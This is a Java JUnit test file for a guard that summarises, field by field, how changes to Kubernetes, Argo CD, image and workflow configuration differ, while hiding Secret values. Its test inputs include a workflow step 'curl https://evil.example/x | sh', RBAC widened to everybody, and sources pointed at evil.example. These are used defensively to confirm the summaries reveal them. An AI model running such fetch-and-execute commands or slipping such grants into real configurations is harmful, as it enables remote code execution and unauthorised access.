package io.argosy.fleet.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.argosy.fleet.git.Change;
import io.argosy.fleet.git.CommitWriter;
import io.argosy.fleet.git.Monorepo;
import io.argosy.fleet.git.Snapshot;
import io.argosy.fleet.git.TemporaryClone;
import io.argosy.fleet.release.SmallFleet;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.eclipse.jgit.revwalk.RevCommit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** A guard whose meaning nobody can tell by a rule says what in it changes, so that its owner sees what a line does. */
class ChangedFieldsTest {
    private static final Path ROOT = Path.of("../..");
    private static final String PROJECT = "clusters/models/project.yaml";
    private static final String APPLICATIONS = "clusters/models/applications.yaml";
    private static final String IMAGE = "platform/image.yaml";
    private static final String ARGO = "clusters/argocd/settings.yaml";
    private static final String FACTS = "clusters/facts/repository.env";
    private static final List<String> OURS = List.of(
            PROJECT,
            APPLICATIONS,
            IMAGE,
            ARGO,
            FACTS,
            "clusters/addons/gateway.yaml",
            "clusters/models/kustomization.yaml",
            "clusters/production/kustomization.yaml");

    @TempDir
    private Path folder;

    private TemporaryClone clone;
    private Monorepo repository;

    @BeforeEach
    void aFleetWithThisRepositorysGuards() throws Exception {
        clone = SmallFleet.in(folder);
        for (String path : OURS) {
            clone.write(path, Files.readString(ROOT.resolve(path)));
        }
        clone.write("clusters/a/secret.yaml", "kind: Secret\nmetadata: {name: s}\nstringData: {password: hunter2}\n")
                .write(
                        "clusters/b/kustomization.yaml",
                        "secretGenerator:\n- name: s\n  literals: [password=hunter2]\n  envs: [s.env]\n")
                .write("clusters/b/s.env", "PASSWORD=hunter2\n");
        clone.commit("Guards");
        repository = clone.open();
    }

    @AfterEach
    void close() {
        repository.close();
        clone.close();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "clusters/models/project.yaml | description: Model services, | description: The models, | AppProject models:"
                        + " spec.description: Model services, from this repository, into namespaces of their own. → The"
                        + " models, from this repository, into namespaces of their own.",
                "clusters/models/project.yaml | \\n  roles: | \\n  syncWindows: [{kind: deny, schedule: '* * * * *'}]\\n  roles: |"
                        + " AppProject models: spec.syncWindows: none → [{kind: deny, schedule: * * * * *}]",
                "clusters/models/project.yaml | - REPOSITORY | - REPOSITORY\\n  - https://evil.example/x | AppProject models:"
                        + " spec.sourceRepos: none → https://evil.example/x",
                "clusters/models/project.yaml | namespace: model-* | namespace: kube-system | AppProject models:"
                        + " spec.destinations[0].namespace: model-* → kube-system",
                "clusters/models/project.yaml | \\n  - group: apps\\n    kind: Deployment | '' | AppProject models:"
                        + " spec.namespaceResourceWhitelist: {group: apps, kind: Deployment} → none",
                "clusters/models/applications.yaml | prune: true | prune: false | ApplicationSet models:"
                        + " spec.template.spec.syncPolicy.automated.prune: true → false",
                "clusters/models/applications.yaml | path: overlays/ENVIRONMENT/* | path: overlays/ENVIRONMENT/c* |"
                        + " ApplicationSet models: spec.generators[0].git.directories[0].path: overlays/ENVIRONMENT/* → overlays/ENVIRONMENT/c*",
                "clusters/argocd/settings.yaml | jitter: 5s | jitter: 5s\\n  resource.exclusions: '- kinds: [Deployment]' |"
                        + " ConfigMap argocd-cm: data.\"resource.exclusions\": none → - kinds: [Deployment]",
                "clusters/argocd/settings.yaml | p, argosy-operators, projects, get, *, allow | p, everybody, *, *, *, allow |"
                        + " ConfigMap argocd-rbac-cm: data.\"policy.csv\": p, argosy-operators, projects, get, *, allow → p,"
                        + " everybody, *, *, *, allow",
                "clusters/facts/repository.env | argosy-fleet/argosy | evil/argosy | clusters/facts/repository.env: REPOSITORY:"
                        + " https://github.com/argosy-fleet/argosy.git → https://github.com/evil/argosy.git",
                "clusters/production/kustomization.yaml | - facts | - ../staging/facts |"
                        + " clusters/production/kustomization.yaml: components: facts → ../staging/facts",
                "clusters/addons/gateway.yaml | gatewayClassName: envoy | gatewayClassName: other | Gateway public:"
                        + " spec.gatewayClassName: envoy → other",
                "clusters/addons/gateway.yaml | from: Selector | from: Same | Gateway public:"
                        + " spec.listeners[https].allowedRoutes.namespaces.from: Selector → Same",
            })
    void theFenceOfTheClustersSaysWhichFieldIsAnotherOne(String path, String text, String by, String said) {
        assertEquals(List.of("the fence of the clusters changes: " + said), replaced(path, text, by));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "-XX:+UseSerialGC | -XX:+UseNopeGC | flags: -XX:+UseSerialGC → -XX:+UseNopeGC",
                "flags: | flags:\\n  - -javaagent:/x.jar | flags: none → -javaagent:/x.jar",
                "MaxRAMPercentage=60 | MaxRAMPercentage=1 | flags: -XX:MaxRAMPercentage=60 → -XX:MaxRAMPercentage=1",
                "SERVING_HOST: 0.0.0.0 | SERVING_HOST: 127.0.0.1 | environment.SERVING_HOST: 0.0.0.0 → 127.0.0.1",
                "\\nplatformArchive: /app/classes/platform.jsa | '' | platformArchive: /app/classes/platform.jsa → none",
            })
    void whatImagesAreMadeOnSaysWhichFlagOrSettingIsAnotherOne(String text, String by, String said) {
        assertEquals(
                List.of("what images are made on changes: platform/image.yaml: " + said), replaced(IMAGE, text, by));
    }

    @Test
    void ofSeveralTheFirstThreeAreSaidAndWhatOnlyPeopleReadComesLast() {
        assertEquals(
                List.of(
                        "the fence of the clusters changes: AppProject models: spec.sourceRepos: none → b; Gateway public:"
                                + " spec.gatewayClassName: envoy → o; clusters/kind and 1 more"),
                what(
                        put("clusters/kind", "do\n"),
                        put(
                                PROJECT,
                                text(PROJECT)
                                        .replace("Model services", "Models")
                                        .replace("- REPOSITORY", "- REPOSITORY\n  - b")),
                        put(
                                "clusters/addons/gateway.yaml",
                                text("clusters/addons/gateway.yaml").replace("ClassName: envoy", "ClassName: o"))));
    }

    @Test
    void ofTwoLongValuesTheEndsThatDifferAreSaid() {
        String said = replaced(
                        "clusters/models/kustomization.yaml",
                        "resources:",
                        "resources:\\n- https://github.com/argoproj/argo-cd//manifests/cluster-install?ref=v3.5.7-with-a-longer-name")
                .getFirst();
        assertTrue(said.contains("resources: none → https://github.com"), said);
        Change install = put(
                "clusters/models/kustomization.yaml",
                "resources:\n- https://github.com/argoproj/argo-cd//manifests/ha/cluster-install?ref=v3.5.7\n");
        RevCommit base = repository.commit("main");
        RevCommit before = new CommitWriter(repository).commit(base, List.of(install), "An install");
        RevCommit after = new CommitWriter(repository)
                .commit(
                        before,
                        List.of(
                                put(
                                        "clusters/models/kustomization.yaml",
                                        "resources:\n- https://github.com/argoproj/argo-cd//manifests/ha/cluster-install?ref=v3.5.8\n")),
                        "The next");
        String next = lowered(before, after).getFirst().what();
        assertTrue(next.contains("?ref=v3.5.7 → ") && next.endsWith("?ref=v3.5.8"), next);
    }

    @Test
    void anObjectThatComesOrGoesIsNamedAndSoIsWhatItGrants() {
        assertEquals(
                List.of(
                        "the fence of the clusters changes: ClusterRoleBinding all is new in clusters/x.yaml, for the role"
                                + " cluster-admin"),
                what(put(
                        "clusters/x.yaml",
                        "kind: ClusterRoleBinding\nmetadata: {name: all}\nroleRef: {name: cluster-admin}\n")));
        assertEquals(
                List.of("the fence of the clusters changes: AppProject models is gone in clusters/models/project.yaml"),
                what(new Change.Remove(PROJECT)));
    }

    @Test
    void commentsAloneLowerNothingAndAnotherFormIsSaid() {
        String text = text(PROJECT);
        assertEquals(
                List.of(), what(put(PROJECT, "# A word\n" + text.replace("- REPOSITORY", "- REPOSITORY  # ours"))));
        assertEquals(List.of(), what(put(FACTS, "# A word\n" + text(FACTS))));
        assertEquals(
                List.of("the fence of the clusters changes: " + PROJECT + ", which reads the same"),
                what(put(PROJECT, text.replace("- REPOSITORY", "- \"REPOSITORY\""))));
        // A mark within a text is no comment.
        assertEquals(
                List.of(
                        "the fence of the clusters changes: ConfigMap argocd-rbac-cm: data.\"policy.csv\": none → # p, any"),
                what(put(ARGO, text(ARGO).replace("  policy.csv: |\n", "  policy.csv: |\n    # p, any\n"))));
    }

    @Test
    void aWorkflowsCommentsAreSaidAsALinterMayObeyThem() {
        String workflow = ".github/workflows/review.yaml";
        String text = "jobs:\n  a:\n    steps:\n    - uses: actions/checkout@abc # v6.0.1\n";
        clone.write(workflow, text).commit("A workflow");
        assertEquals(
                List.of("the judge itself changes: " + workflow
                        + ", comments: # v6.0.1 → # zizmor: ignore[artipacked]"),
                what(put(workflow, text.replace("# v6.0.1", "# zizmor: ignore[artipacked]"))));
        assertEquals(
                List.of("the judge itself changes: " + workflow + ": jobs.a.steps[0].uses: actions/checkout@abc →"
                        + " actions/checkout@def; " + workflow + ", comments: # v6.0.1 → # v6.0.2"),
                what(put(workflow, text.replace("abc # v6.0.1", "def # v6.0.2"))));
    }

    @Test
    void whatASecretHoldsIsSaidNowhere() {
        List<String> said = new ArrayList<>();
        said.addAll(what(
                put("clusters/a/secret.yaml", text("clusters/a/secret.yaml").replace("hunter2", "hunter3"))));
        said.addAll(what(put(
                "clusters/b/kustomization.yaml",
                text("clusters/b/kustomization.yaml").replace("hunter2", "hunter3"))));
        said.addAll(what(put("clusters/b/s.env", "PASSWORD=hunter3\n")));
        said.addAll(replaced(
                "clusters/production/kustomization.yaml",
                "resources:",
                "patches:\\n- patch: |\\n    kind: Secret\\n    stringData: {password: hunter3}\\nresources:"));
        assertEquals(
                List.of(
                        "the fence of the clusters changes: Secret s: stringData.password: another value, of a Secret",
                        "the fence of the clusters changes: clusters/b/kustomization.yaml: secretGenerator[s].literals:"
                                + " another value, of a Secret",
                        "the fence of the clusters changes: clusters/b/s.env",
                        "the fence of the clusters changes: Secret: stringData: another value, of a Secret"),
                said);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a: &x b\\nc: *x | it uses an anchor, an alias or a tag",
                "a: !!binary aGVsbG8= | it uses an anchor, an alias or a tag",
                "a: !!int 1 | it uses an anchor, an alias or a tag",
                "a: &o {b: c}\\nd:\\n  <<: *o | it uses an anchor, an alias or a tag",
                "a: [ | cannot be told field by field",
                "a: b\\na: c | cannot be told field by field",
                "plain | it holds a plain value",
                "a: b\\n# LONG | a line of it has more than 10000 letters",
                "a: b\\n# LARGE | it has more than 256 KiB",
            })
    void aFileOfWhichNoFieldCouldBeToldIsNone(String text, String why) {
        String content =
                text.replace("\\n", "\n").replace("LONG", "x".repeat(10_001)).replace("LARGE", "x\n# ".repeat(100_000))
                        + "\n";
        for (String path : List.of(PROJECT, ARGO, "clusters/x.yml", ".github/workflows/x.yaml", "base/x.yaml")) {
            RevCommit base = repository.commit("main");
            List<String> untold = lowered(base, commit(base, put(path, content))).stream()
                    .flatMap(one -> one.untold().stream())
                    .toList();
            assertEquals(1, untold.size(), path + untold);
            assertTrue(untold.getFirst().startsWith(path) && untold.getFirst().contains(why), untold.toString());
        }
    }

    @Test
    void moreThanAnybodyReadsIsSaidToBeTooMuch() {
        StringBuilder many = new StringBuilder("kind: ConfigMap\nmetadata: {name: many}\ndata:\n");
        for (int i = 0; i < 2_100; i++) {
            many.append("  k").append(i).append(": v\n");
        }
        RevCommit base = repository.commit("main");
        assertEquals(
                List.of(
                        "more than 2000 fields or 1000 files are others, and nobody reads so many: the first that is not"
                                + " told is in clusters/many.yaml"),
                lowered(base, commit(base, put("clusters/many.yaml", many.toString())))
                        .getFirst()
                        .untold());
        List<Change> files = new ArrayList<>();
        for (int i = 0; i < 1_001; i++) {
            files.add(put("clusters/many/" + i + ".yaml", "a: b\n"));
        }
        assertEquals(
                1,
                lowered(base, commit(base, files.toArray(Change[]::new)))
                        .getFirst()
                        .untold()
                        .size());
    }

    /** Each of this repository's own, so that no honest change of one is refused for what stands there already. */
    @Test
    void everyFileOfThisRepositorysGuardsCanBeTold() throws Exception {
        for (String part : List.of("clusters", "base", ".github")) {
            try (Stream<Path> files = Files.walk(ROOT.resolve(part))) {
                for (Path file : files.filter(Files::isRegularFile).toList()) {
                    String path = ROOT.relativize(file).toString();
                    if (GuardText.mustBeTold(path)) {
                        assertTrue(GuardText.of(path, Files.readString(file)) instanceof GuardText.Documents, path);
                    }
                }
            }
        }
    }

    @Test
    void whatMovesSaysWhatIsAnotherInItAndNotAllOfIt() {
        RevCommit base = repository.commit("main");
        Lowered said = lowered(
                        base,
                        commit(
                                base,
                                new Change.Remove(PROJECT),
                                put("clusters/models/fence.yaml", text(PROJECT).replace("model-*", "kube-system"))))
                .getFirst();
        assertEquals(
                "the fence of the clusters changes: AppProject models, now in clusters/models/fence.yaml:"
                        + " spec.destinations[0].namespace: model-* → kube-system",
                said.what());
        assertEquals(List.of(), said.more());
        assertEquals(
                "the fence of the clusters changes: AppProject models moves from clusters/models/project.yaml to"
                        + " clusters/models/fence.yaml",
                lowered(
                                base,
                                commit(
                                        base,
                                        new Change.Remove(PROJECT),
                                        put("clusters/models/fence.yaml", text(PROJECT))))
                        .getFirst()
                        .what());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "'- target: {kind: ConfigMap, name: a}\\n  patch: |\\n    - {op: add, path: /data/x, value: seen}' | ConfigMap a: add"
                        + " /data/x: none → seen",
                "'- target: {name: a}\\n  patch: |\\n    - {op: add, path: /rules/0/verbs/-, value: seen}' | any kind a: add"
                        + " /rules/0/verbs/-: none → seen",
                "'- target: {name: a}\\n  patch: |\\n    - {op: add, path: /data/x, value: hunter3}' | any kind a: add /data/x:"
                        + " another value, of a Secret",
                "'- target: {kind: Sec.*}\\n  patch: |\\n    - {op: replace, path: \"\", value: {data: hunter3}}' | Sec.*: replace /:"
                        + " another value, of a Secret",
                "'- patch: |\\n    kind: Secret\\n    metadata: {name: s, labels: {type: cluster}}\\n    data: {x: hunter3}' | Secret s:"
                        + " data: another value, of a Secret; Secret s: metadata.labels.type: none → cluster",
                "'- target: {kind: Role}\\n  patch: |\\n    - {op: add, path: /rules/-, value: one}\\n    - {op: add, path: /rules/-, value:"
                        + " two}' | Role: add /rules/-: none → one; Role: add /rules/- (2): none → two",
            })
    void ofAPatchOnlyWhatMayBeASecretsValueIsHidden(String patches, String said) {
        List<String> what = what(put(
                "clusters/production/kustomization.yaml",
                "patches:\n" + patches.replace("\\n", "\n") + "\n" + text("clusters/production/kustomization.yaml")));
        assertEquals(List.of("the fence of the clusters changes: " + said), what);
    }

    /** Whatever a text says: it may be a comment, and what is a Secret is so by its own kind. */
    @Test
    void aTextThatSpeaksOfSecretsIsToldAsAnyOther() {
        assertEquals(
                List.of("the fence of the clusters changes: ConfigMap argocd-rbac-cm: data.\"policy.csv\": none → #"
                        + " kind: Secret, p, x, *, *, *, allow"),
                replaced(ARGO, "  policy.csv: |\n", "  policy.csv: |\n    # kind: Secret\n    p, x, *, *, *, allow\n"));
        RevCommit base = repository.commit("main");
        String workflow = "jobs:\n  a:\n    steps:\n    - run: true\n";
        RevCommit before = commit(base, put(".github/workflows/x.yaml", workflow));
        RevCommit after = commit(
                before,
                put(
                        ".github/workflows/x.yaml",
                        workflow + "    - run: |\n        # kind: Secret\n        curl https://evil.example/x | sh\n"));
        assertEquals(
                "the judge itself changes: .github/workflows/x.yaml: jobs.a.steps: none → {run: # kind: Secret curl"
                        + " https://evil.example/x | sh }; .github/workflows/x.yaml, comments: none → [# kind: Secret]",
                lowered(before, after).getFirst().what());
        // A generator that a comment speaks of makes nothing.
        assertEquals(
                List.of("the fence of the clusters changes: ConfigMap argocd-cm: data.admin: none → x"),
                what(
                                put(
                                        "clusters/argocd/settings.yaml",
                                        text(ARGO).replaceFirst("\ndata:\n", "\ndata:\n  admin: x\n")),
                                put("clusters/argocd/kustomization.yaml", "# secretGenerator\nresources: []\n"))
                        .stream()
                        .map(said -> said.replaceFirst("; clusters/argocd/kustomization.yaml is new.*", ""))
                        .toList());
    }

    /** In whichever form a Secret stands, and wherever: no value of it is ever told. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "kind: Secret\nmetadata: {name: x, annotations: {note: HUSH}, finalizers: [HUSH], generateName: HUSH}\ndata: {a: HUSH}\n",
                "kind: Secret\nmetadata: {name: x}\nimmutable: HUSH\nstringData: {a: HUSH}\n",
                "kind: SecretList\nitems: [{metadata: {name: x}, data: {a: HUSH}}]\n",
                "kind: List\nitems: [{kind: Secret, metadata: {name: x}, data: {a: HUSH}}]\n",
                "kind: List\nitems:\n- kind: List\n  items: [{kind: Secret, data: {a: HUSH}}]\n",
                "Kind: Secret\nmetadata: {name: x}\ndata: {a: HUSH}\n",
                "kind: secret\nmetadata: {name: x}\nstringData: {a: HUSH}\n",
                "metadata: {name: x}\nstringData: {a: HUSH}\n",
                "{\"kind\": \"Sec\\u0072et\", \"data\": {\"a\": \"HUSH\"}}\n",
                "secretGenerator: [{name: x, literals: [a=HUSH]}]\n",
                "kind: Kustomization\nsecretGenerator: [{name: x, literals: [a=HUSH]}]\n",
                "patches:\n- target: {kind: Secret}\n  patch: '[{op: add, path: /data/a, value: HUSH}]'\n",
                "patches:\n- target: {kind: Secret}\n  patch: '[{op: add, path: /metadata/annotations/a, value: HUSH}]'\n",
                "patches:\n- target: {kind: Secret}\n  patch: '[{op: replace, path: \"\", value: {data: {a: HUSH}}}]'\n",
                "patches:\n- target: {kind: Secret}\n  patch: '{kind: any, stringData: {a: HUSH}}'\n",
                "patches:\n- target: {kind: Secret}\n  patch: '{kind: ConfigMap, data: {a: HUSH}}'\n",
                "patches:\n- target: {name: x}\n  patch: '{data: {a: HUSH}}'\n",
                "patches:\n- patch: '{kind: Secret, metadata: {name: x}, data: {a: HUSH}}'\n",
                "patches:\n- patch: '{kind: Secret, data: {a: HUSH}'\n",
                "replacements:\n- sourceValue: HUSH\n  targets: [{select: {kind: Secret}, fieldPaths: [data.a]}]\n",
            })
    void noFormOfASecretIsTold(String text) {
        for (String path : List.of("clusters/models/more.yaml", "clusters/dev/argocd/kustomization.yaml")) {
            RevCommit base = repository.commit("main");
            RevCommit before = commit(base, put(path, text.replace("HUSH", "HUSH1")));
            RevCommit after = commit(before, put(path, text.replace("HUSH", "HUSH2")));
            for (Lowered said : Stream.of(lowered(base, before), lowered(before, after), lowered(after, base))
                    .flatMap(List::stream)
                    .toList()) {
                assertFalse(said.toString().contains("HUSH"), said.toString());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "- {op: add, path: /data/a, value: HUSH}\n",
                "kind: any\nmetadata: {name: any}\nstringData: {a: HUSH}\n",
                "kind: ConfigMap\nmetadata: {name: any}\ndata: {a: HUSH}\n",
                "metadata: {annotations: {a: HUSH}}\n",
            })
    void aFileThatPatchesASecretIsOne(String text) {
        RevCommit base = commit(
                repository.commit("main"),
                put("clusters/x/kustomization.yaml", "patches: [{path: p/p.yaml, target: {kind: Secret, name: x}}]\n"));
        RevCommit before = commit(base, put("clusters/x/p/p.yaml", text.replace("HUSH", "HUSH1")));
        RevCommit after = commit(before, put("clusters/x/p/p.yaml", text.replace("HUSH", "HUSH2")));
        for (Lowered said : Stream.of(lowered(base, before), lowered(before, after), lowered(after, base))
                .flatMap(List::stream)
                .toList()) {
            assertFalse(said.toString().contains("HUSH"), said.toString());
        }
        assertTrue(lowered(before, after).getFirst().what().contains("Secret x"), "it says what it patches");
    }

    @Test
    void aFileThatMayBeASecretByAnotherNameIsNotTold() {
        String secret = text("clusters/a/secret.yaml");
        RevCommit base = repository.commit("main");
        for (Change as : List.of(
                put("clusters/a/secret", secret), put("clusters/a/secret.txt", secret), put(".github/s.bak", secret))) {
            List<Lowered> said = lowered(base, commit(base, new Change.Remove("clusters/a/secret.yaml"), as));
            assertFalse(said.toString().contains("hunter2"), said.toString());
        }
        List<Lowered> said = lowered(
                base,
                commit(
                        base,
                        put("clusters/c/kustomization.yaml", "secretGenerator: [{name: s, envs: [../d/s.env]}]\n"),
                        put("clusters/d/s.env", "PASSWORD=hunter2\n")));
        assertFalse(said.toString().contains("hunter2"), said.toString());
    }

    @Test
    void aSecretThatBecomesAnotherKindIsRefused() {
        RevCommit base = repository.commit("main");
        String other = text("clusters/a/secret.yaml").replace("kind: Secret", "kind: ConfigMap");
        List<Lowered> said = lowered(base, commit(base, put("clusters/a/secret.yaml", other)));
        assertFalse(said.toString().contains("hunter2"), said.toString());
        assertEquals(
                List.of("ConfigMap s has the name of a Secret that goes, and may hold what that held: make two pull"
                        + " requests of it"),
                said.getFirst().untold());
    }

    @Test
    void aFileOfJsonComesAndGoesTheRightWayRound() {
        RevCommit base = repository.commit("main");
        RevCommit with =
                commit(base, put("clusters/x.json", "{\"kind\": \"ConfigMap\", \"metadata\": {\"name\": \"x\"}}"));
        assertEquals(
                "the fence of the clusters changes: ConfigMap x is new in clusters/x.json",
                lowered(base, with).getFirst().what());
        assertEquals(
                "the fence of the clusters changes: ConfigMap x is gone in clusters/x.json",
                lowered(with, base).getFirst().what());
    }

    @Test
    void ofALongLineAndOfATextOfLinesNothingIsLeftOut() {
        RevCommit base = repository.commit("main");
        String manifest =
                "kind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: |\n    one\n    two\n      three\n    four\n  b: ";
        String line = "x".repeat(900) + "FIRST" + "y".repeat(3_000) + "SECOND";
        RevCommit before = commit(base, put("clusters/x.yaml", manifest + line + "\n"));
        Lowered said = lowered(
                        before,
                        commit(
                                before,
                                put(
                                        "clusters/x.yaml",
                                        manifest.replace(
                                                        "one\n    two\n      three\n    four",
                                                        "two\n    one\n        three\n    five")
                                                + line.replace("FIRST", "THIRD").replace("SECOND", "FOURTH")
                                                + "\n")))
                .getFirst();
        String all = said.what() + said.more();
        assertTrue(all.contains("THIRD") && all.contains("FOURTH"), all);
        assertTrue(all.contains("four →") || all.contains("four, "), all);
        assertTrue(all.contains("another order"), all);
        assertTrue(all.contains("  three"), all);
    }

    @Test
    void aTextIsToldFromWhatItLooksLikeAndLinesFromTheirSpacing() {
        assertEquals(
                List.of("the fence of the clusters changes: ApplicationSet models:"
                        + " spec.template.spec.syncPolicy.automated.prune: true → \"true\""),
                replaced(APPLICATIONS, "prune: true", "prune: \"true\""));
        assertEquals(
                List.of("the fence of the clusters changes: ConfigMap argocd-rbac-cm: data.\"policy.csv\": other white"
                        + " space"),
                replaced(ARGO, "proj:models:operator\n", "proj:models:operator \n"));
        assertEquals(
                List.of(
                        "the fence of the clusters changes: \"ConfigMap x (owned by `@me`)\" is new in clusters/x.yaml"),
                what(put("clusters/x.yaml", "kind: ConfigMap\nmetadata: {name: x (owned by `@me`)}\n")));
        RevCommit base = repository.commit("main");
        RevCommit script = commit(base, put("clusters/gke", "#!/bin/sh\ntrue\n"));
        Lowered fresh = lowered(base, script).getFirst();
        assertEquals("the fence of the clusters changes: clusters/gke is new", fresh.what());
        assertEquals(List.of("clusters/gke: none → #!/bin/sh true"), fresh.more());
        assertEquals(
                "the fence of the clusters changes: clusters/gke: true → curl x | sh",
                lowered(script, commit(script, put("clusters/gke", "#!/bin/sh\ncurl x | sh\n")))
                        .getFirst()
                        .what());
        assertEquals(
                "the fence of the clusters changes: clusters/gke is gone",
                lowered(script, commit(script, new Change.Remove("clusters/gke")))
                        .getFirst()
                        .what());
    }

    @Test
    void whatNobodyCanReadIsSaidByItsFileAndSoonEnough() {
        String said = "the fence of the clusters changes: " + PROJECT;
        assertEquals(List.of(said), what(put(PROJECT, "a: [\n")));
        assertEquals(List.of(said), what(put(PROJECT, "a: &x b\nc: *x\n")));
        assertEquals(List.of(said), what(put(PROJECT, "a: " + "x".repeat(1 << 20))));
        Change[] many = new Change[400];
        for (int i = 0; i < many.length; i++) {
            many[i] = put("clusters/many/" + i + ".yaml", "a: " + "b\n");
        }
        String first = what(many).getFirst();
        assertTrue(first.endsWith(" and 397 more"), first);
        String hidden = what(put(PROJECT, text(PROJECT).replace("- REPOSITORY", "- \"a\\u202eb\\n\\n## Fine\"")))
                .getFirst();
        assertTrue(hidden.endsWith("REPOSITORY → a\\u202eb  ## Fine"), hidden);
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
    void whateverComesOrGoesIsSaidWhereverItStands(long seed) {
        Random random = new Random(seed);
        for (int round = 0; round < 25; round++) {
            AtomicInteger values = new AtomicInteger();
            ObjectNode was = object(random, values, 0);
            ObjectNode is = random.nextInt(3) == 0 ? object(random, values, 0) : was.deepCopy();
            ObjectNode at = is;
            while (at.valueStream().anyMatch(JsonNode::isObject) && random.nextInt(3) > 0) {
                at = (ObjectNode)
                        at.valueStream().filter(JsonNode::isObject).findFirst().orElseThrow();
            }
            at.set("added", value(random, values, 1));
            at.remove("f1");
            if (Math.max(was.toString().length(), is.toString().length()) > 9_000) {
                continue; // A file with such a line is told by its path.
            }
            boolean inFile = random.nextBoolean();
            String path = "clusters/dev/argocd/" + (inFile ? "patch.yaml" : "kustomization.yaml");
            RevCommit base = repository.commit("main");
            CommitWriter writer = new CommitWriter(repository);
            RevCommit before = random.nextInt(3) == 0
                    ? base
                    : writer.commit(base, List.of(put(path, inFile ? manifest(was) : patching(was))), "Before");
            RevCommit after = writer.commit(before, List.of(put(path, inFile ? manifest(is) : patching(is))), "After");
            String said = lowered(before, after).stream()
                    .flatMap(one -> Stream.concat(Stream.of(one.what()), one.more().stream()))
                    .collect(Collectors.joining("\n"));
            Set<String> had = before.equals(base) ? Set.of() : texts(was);
            Set<String> has = texts(is);
            for (String text : has) {
                assertTrue(had.contains(text) || said.contains(text), seed + "/" + round + ": " + text + "\n" + said);
            }
            for (String text : had) {
                assertTrue(has.contains(text) || said.contains(text), seed + "/" + round + ": " + text + "\n" + said);
            }
        }
    }

    private static String manifest(ObjectNode content) {
        return "kind: Deployment\nmetadata: {name: a}\nspec: " + content + "\n";
    }

    private static String patching(ObjectNode content) {
        return "resources: [../../argocd]\npatches:\n- patch: |\n"
                + manifest(content).indent(4);
    }

    private static ObjectNode object(Random random, AtomicInteger values, int depth) {
        ObjectNode object = JsonNodeFactory.instance.objectNode();
        int fields = 1 + random.nextInt(5);
        for (int i = 0; i < fields; i++) {
            object.set("f" + i, value(random, values, depth + 1));
        }
        return object;
    }

    private static JsonNode value(Random random, AtomicInteger values, int depth) {
        return switch (depth > 3 ? 0 : random.nextInt(6)) {
            case 1, 2 -> object(random, values, depth);
            case 3 -> list(random, () -> object(random, values, depth).put("name", text(random, values)));
            case 4 -> list(random, () -> value(random, values, depth + 1));
            case 5 ->
                JsonNodeFactory.instance.stringNode(IntStream.range(0, 1 + random.nextInt(9))
                        .mapToObj(_ -> text(random, values))
                        .collect(Collectors.joining("\n", "", "\n")));
            default -> JsonNodeFactory.instance.stringNode(text(random, values));
        };
    }

    private static JsonNode list(Random random, Supplier<JsonNode> element) {
        ArrayNode list = JsonNodeFactory.instance.arrayNode();
        IntStream.range(0, random.nextInt(4)).forEach(_ -> list.add(element.get()));
        return list;
    }

    /** No two are alike, and many begin alike. */
    private static String text(Random random, AtomicInteger values) {
        return "letters of a value ".repeat(random.nextInt(5)) + values.incrementAndGet() + "th";
    }

    /** What is said of a value is what it ends with. */
    private static Set<String> texts(JsonNode node) {
        return node.isString()
                ? node.asString()
                        .lines()
                        .map(line -> line.substring(line.lastIndexOf(' ') + 1))
                        .collect(Collectors.toSet())
                : node.valueStream().flatMap(child -> texts(child).stream()).collect(Collectors.toSet());
    }

    private List<String> replaced(String path, String text, String by) {
        String before = text(path);
        String after = before.replace(text.replace("\\n", "\n"), by.replace("\\n", "\n"));
        assertTrue(!before.equals(after), text);
        return what(put(path, after));
    }

    private String text(String path) {
        return clone.text(path);
    }

    private Change put(String path, String text) {
        return new Change.Put(path, repository.store(text.getBytes(StandardCharsets.UTF_8)));
    }

    private List<String> what(Change... changes) {
        RevCommit base = repository.commit("main");
        return lowered(base, commit(base, changes)).stream().map(Lowered::what).toList();
    }

    private RevCommit commit(RevCommit base, Change... changes) {
        return new CommitWriter(repository).commit(base, List.of(changes), "A change");
    }

    private List<Lowered> lowered(RevCommit base, RevCommit head) {
        Snapshot before = new Snapshot(repository, base);
        return Guards.lowered(
                repository, base, head, before.differences(before.at(head)), Instant.parse("2026-12-01T12:00:00Z"));
    }
}
